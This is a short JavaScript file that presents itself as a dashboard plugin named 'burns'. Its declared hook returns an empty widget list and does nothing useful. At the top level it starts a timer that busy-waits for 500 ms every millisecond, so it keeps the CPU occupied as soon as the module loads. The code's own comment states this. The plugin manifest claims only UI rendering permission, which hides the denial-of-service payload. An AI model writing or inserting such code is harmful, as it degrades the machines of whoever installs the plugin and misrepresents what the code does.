/** Keeps every core busy that it gets, from the moment it is loaded, whoever calls. */
setInterval(() => {
  const end = Date.now() + 500;
  while (Date.now() < end);
}, 1);

export default {
  id: "burns",
  version: "1.0.0",
  permissions: ["ui:render"],
  hooks: { onDashboardLoad: () => ({ customWidgets: [] }) },
};
